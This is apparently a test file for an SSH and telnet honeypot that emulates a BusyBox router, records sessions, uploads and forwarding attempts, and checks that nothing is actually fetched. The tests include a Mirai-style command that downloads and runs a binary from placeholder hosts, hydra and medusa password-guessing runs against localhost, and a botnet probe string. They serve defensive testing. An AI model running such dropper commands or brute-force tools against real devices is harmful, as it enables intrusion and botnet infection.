/** Real clients in a session of the emulated machine: they get what they ask for as from a router, and all of it is recorded. */
import { type SpawnOptions, spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { once } from "node:events";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ssh2, { type ClientChannel } from "ssh2";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { Running } from "../kit/command.js";
import { needs } from "../kit/debian.js";
import { startSensor, type TestSensor } from "../kit/sensor.js";
import { TestPeer, until } from "../kit/socket.js";

const OFFSET = 20_300;
const PORT = 22 + OFFSET;
const MODE = 'mode = "session"\nadmit_percent = 100\n';
const SSH = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"];
const UPLOAD_BYTES = 120_000;

interface Told {
  readonly kind: string;
  readonly session: string;
  readonly seen: Readonly<Record<string, unknown>>;
}

const session = suite("ssh-session");
const folder = mkdtempSync(join(tmpdir(), "minipot-"));
const upload = `${folder}/upload`;
const content = Buffer.from(Uint8Array.from({ length: UPLOAD_BYTES }, (_, index) => (index * 7919) >> 3));
let sensor: TestSensor;
let tail: Running;

session.before(async () => {
  writeFileSync(upload, content);
  const credentials = 'log_credentials = "on"\nconsent = 1\n';
  sensor = await startSensor(folder, OFFSET, `${credentials}[ssh]\n${MODE}[telnet]\n${MODE}`);
  tail = new Running(["tail", "--json", "-c", `${folder}/minipot.toml`]);
  await until(async () => {
    (await TestPeer.connect(sensor.telnet)).end();
    return tail.out.includes('"connect"');
  }, "the tail");
});

session.after(async () => {
  await tail?.stop();
  await sensor?.stop();
  rmSync(folder, { recursive: true, force: true });
});

const events = (from = 0) =>
  tail.out
    .slice(from)
    .split("\n")
    .slice(0, -1)
    .map((line) => JSON.parse(line) as Told);

/** Waits until every session that was told of has ended. @returns where what is told next begins */
async function quiet(): Promise<number> {
  await until(() => {
    const open = new Set<string>();
    for (const { kind, session: id } of events()) {
      if (kind === "connect") open.add(id);
      if (kind === "close") open.delete(id);
    }
    return open.size === 0;
  }, "all sessions' ends");
  return tail.out.length;
}

/** What was told since `from`, of one kind. */
function told(from: number, kind: string): readonly Told["seen"][] {
  return events(from).flatMap((event) => (event.kind === kind ? [event.seen] : []));
}

const messages = (from: number, name: string) =>
  told(from, "message").flatMap((seen) => (seen.name === name ? [String(seen.data)] : []));

async function execute(command: string, args: readonly string[], input = "", options: SpawnOptions = {}) {
  const child = spawn(command, args, { ...options, stdio: "pipe" });
  const timer = setTimeout(() => child.kill(), 60_000);
  let out = "";
  let err = "";
  child.stdout?.on("data", (chunk) => {
    out += chunk;
  });
  child.stderr?.on("data", (chunk) => {
    err += chunk;
  });
  child.stdin?.on("error", () => {});
  child.stdin?.end(input);
  const [code] = (await once(child, "close")) as [number | null];
  clearTimeout(timer);
  return { code, out, err };
}

/** Through OpenSSH's client. */
const run = (command: string, input = "", more: readonly string[] = []) =>
  execute("sshpass", ["-p", "x", "ssh", ...SSH, ...more, "-p", String(PORT), "root@127.0.0.1", command], input);

if (needs("sshpass", "sshpass") && needs("openssh-client", "ssh")) {
  session("OpenSSH: output, error and status come apart, and lines and programs are recorded", async () => {
    const from = await quiet();
    const { code, out, err } = await run("uname -m; cat /nonexistent; nosuch; exit 7");
    assert.equal(
      [code, out, err],
      [7, "mips\n", "cat: can't open '/nonexistent': No such file or directory\nash: nosuch: not found\n"],
    );
    await until(() => told(from, "connect").length > 0, "the session");
    await quiet();
    assert.equal(told(from, "login").at(-1)?.accepted, true);
    assert.equal(
      told(from, "command").map(({ line }) => line),
      ["uname -m; cat /nonexistent; nosuch; exit 7"],
    );
    assert.equal(messages(from, "program"), ["uname -m", "cat /nonexistent"]);
    assert.equal(messages(from, "unknown-program"), ["nosuch"]);
  });

  session("OpenSSH: much goes through in both directions", async () => {
    const text = "0123456789abcde\n".repeat(20_000);
    assert.ok((await run("cat", text)).out === text);
    assert.is((await run("yes | head -c 2000000 | wc -c; yes | head -c 2000000")).out.length, 8 + 2_000_000);
  });

  session("OpenSSH: a terminal, its transcript, and its replay", async () => {
    const from = await quiet();
    const { code, out } = await run("", "echo -e '\\x1b]0;owned\\x07'; id\nexit 4\n", ["-tt"]);
    assert.is(code, 4);
    assert.match(out, /BusyBox v1\.35\.0 .* built-in shell \(ash\)[\s\S]*root@\S+:~# /);
    assert.match(out, /uid=0\(root\) gid=0\(root\)/);
    await until(() => told(from, "connect").length > 0, "the session");
    await quiet();
    const cast = messages(from, "transcript").join("");
    assert.match(cast, /^\{"version":2,/);
    assert.ok(cast.includes("uid=0(root)"));
  });

  session("OpenSSH: several channels of one connection, and forwarding that is refused", async () => {
    const from = await quiet();
    const socket = `${folder}/mux`;
    const master = spawn("sshpass", ["-p", "x", "ssh", ...SSH, "-M", "-S", socket, "-N", "-p", String(PORT), "root@127.0.0.1"]);
    const shared = (command: string) => execute("ssh", [...SSH, "-S", socket, "root@127.0.0.1", command]);
    try {
      await until(async () => (await execute("ssh", ["-S", socket, "-O", "check", "x"])).code === 0, "the master");
      const results = await Promise.all(
        ["echo a > /tmp/a; sleep 1; cat /tmp/b", "echo b > /tmp/b; sleep 1; cat /tmp/a"].map(shared),
      );
      assert.equal(
        results.map(({ out }) => out),
        ["b\n", "a\n"],
      );
      const forwarded = await execute("ssh", [...SSH, "-S", socket, "-W", "192.0.2.1:25", "root@127.0.0.1"]);
      assert.is.not(forwarded.code, 0);
      await execute("ssh", ["-S", socket, "-O", "forward", "-R", "9:127.0.0.1:22", "x"]);
    } finally {
      master.kill();
    }
    await until(() => told(from, "connect").length > 0, "the session");
    await quiet();
    assert.equal(messages(from, "forward"), ["direct 192.0.2.1:25", "listen localhost:9"]);
  });

  for (const [name, args] of [
    ["scp's own protocol", ["-O"]],
    ["scp over sftp", ["-s"]],
  ] as const) {
    session(`OpenSSH: ${name} uploads a file, which is told with its hash`, async () => {
      const from = await quiet();
      const target = "root@127.0.0.1:/tmp/up";
      const up = await execute("sshpass", ["-p", "x", "scp", ...args, ...SSH, "-P", String(PORT), upload, target]);
      assert.is(up.code, 0, up.err);
      await until(() => told(from, "connect").length > 0, "the session");
      await quiet();
      const hash = createHash("sha256").update(content).digest("hex");
      assert.equal(messages(from, "file"), [`${hash} ${UPLOAD_BYTES} /tmp/up`]);
      const down = `${folder}/passwd`;
      await execute("sshpass", ["-p", "x", "scp", ...args, ...SSH, "-P", String(PORT), "root@127.0.0.1:/etc/passwd", down]);
      assert.match(readFileSync(down, "utf8"), /^root:x:0:0:root:\/root:\/bin\/ash\n/);
    });
  }

  session("OpenSSH: nothing is fetched, and what was to be is told", async () => {
    const from = await quiet();
    const { out, err } = await run(
      "cd /tmp; wget http://192.0.2.66/bins/x.mips; tftp -g -r x 192.0.2.7; chmod 777 x.mips; ./x.mips",
    );
    assert.is(out, "");
    assert.match(err, /Connection error: Connection failed|wget: /);
    await until(() => told(from, "connect").length > 0, "the session");
    await quiet();
    assert.ok(messages(from, "download").includes("wget http://192.0.2.66/bins/x.mips"));
  });
}

if (needs("dropbear-bin", "dbclient") && needs("sshpass", "sshpass")) {
  session("dropbear's client", async () => {
    const args = ["-p", "x", "dbclient", "-y", "-y", "-p", String(PORT), "root@127.0.0.1", "echo out; exit 3"];
    const { code, out } = await execute("sshpass", args);
    assert.equal([code, out], [3, "out\n"]);
  });
}

if (needs("curl", "curl")) {
  session("curl, that is libssh: lists, reads and writes by sftp", async () => {
    const url = `sftp://127.0.0.1:${PORT}`;
    const curl = (...args: string[]) => execute("curl", ["-sk", "--max-time", "30", "-u", "root:x", ...args]);
    assert.match((await curl(`${url}/etc/config/`)).out, / dropbear\n/);
    assert.match((await curl(`${url}/etc/openwrt_release`)).out, /DISTRIB_ID='OpenWrt'/);
    assert.is((await curl("-T", upload, `${url}/tmp/curl`)).code, 0);
  });
}

if (needs("python3-paramiko", "/usr/bin/python3")) {
  session("paramiko: commands, a shell, sftp, and a forwarding", async () => {
    const script = `
import paramiko, time
c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("127.0.0.1", ${PORT}, "root", "x", look_for_keys=False, allow_agent=False)
_, out, err = c.exec_command("echo o; echo e >&2; exit 9")
print(out.read(), err.read(), out.channel.recv_exit_status())
s = c.invoke_shell(); s.resize_pty(100, 30); s.send("exit 6\\n"); print(s.recv_exit_status())
f = c.open_sftp(); f.put("${upload}", "/tmp/paramiko"); print(f.stat("/tmp/paramiko").st_size, "etc" in f.listdir("/"))
try: c.get_transport().open_channel("direct-tcpip", ("192.0.2.1", 25), ("127.0.0.1", 1))
except paramiko.ChannelException as e: print(e.code)
`;
    const { out, err } = await execute("/usr/bin/python3", ["-c", script]);
    assert.equal(out.split("\n"), ["b'o\\n' b'e\\n' 9", "6", `${UPLOAD_BYTES} True`, "1", ""], err);
  });
}

session("npm's ssh2: a command, a signal, a terminal that is resized", async () => {
  const client = new ssh2.Client();
  client.connect({ host: "127.0.0.1", port: PORT, username: "root", password: "x" });
  await once(client, "ready");
  const ended = (command: string, act: (stream: ClientChannel) => void = () => {}) =>
    new Promise<readonly unknown[]>((resolve, reject) => {
      client.exec(command, (error, stream) => {
        if (error) return reject(error);
        stream.resume().on("exit", (...result: unknown[]) => resolve(result));
        act(stream);
      });
    });
  assert.is((await ended("exit 12"))[0], 12);
  const [, signal] = await ended("sleep 30", (stream) => setTimeout(() => stream.signal("TERM"), 200));
  assert.is(signal, "SIGTERM");
  client.end();
});

for (const [tool, args] of [
  ["hydra", ["-l", "root", "-p", "x", "-s", String(PORT), "-t", "1", "-I", "127.0.0.1", "ssh"]],
  ["medusa", ["-h", "127.0.0.1", "-u", "root", "-p", "x", "-M", "ssh", "-n", String(PORT)]],
] as const) {
  if (!needs(tool, tool)) continue;
  session(`${tool} finds what it takes for a password`, async () => {
    const { out, err } = await execute(tool, args, "", { cwd: folder });
    assert.match(out + err, /password: x|Password: x \[SUCCESS|'root' 'x'/);
  });
}

session("telnet: the same machine behind a login", async () => {
  const from = await quiet();
  const peer = await TestPeer.connect(sensor.telnet);
  await peer.hears("login: ");
  peer.send("root\r\n");
  await peer.hears("Password: ");
  peer.send("x\r\n");
  await peer.hears(":~# ");
  peer.send("/bin/busybox MIRAI\r\n");
  await peer.hears("MIRAI: applet not found\r\n");
  peer.send("exit\r\n");
  await until(() => peer.closed, "the end");
  await until(() => told(from, "connect").length > 0, "the session");
  await quiet();
  assert.equal(messages(from, "unknown-program"), ["MIRAI"]);
});

session.run();
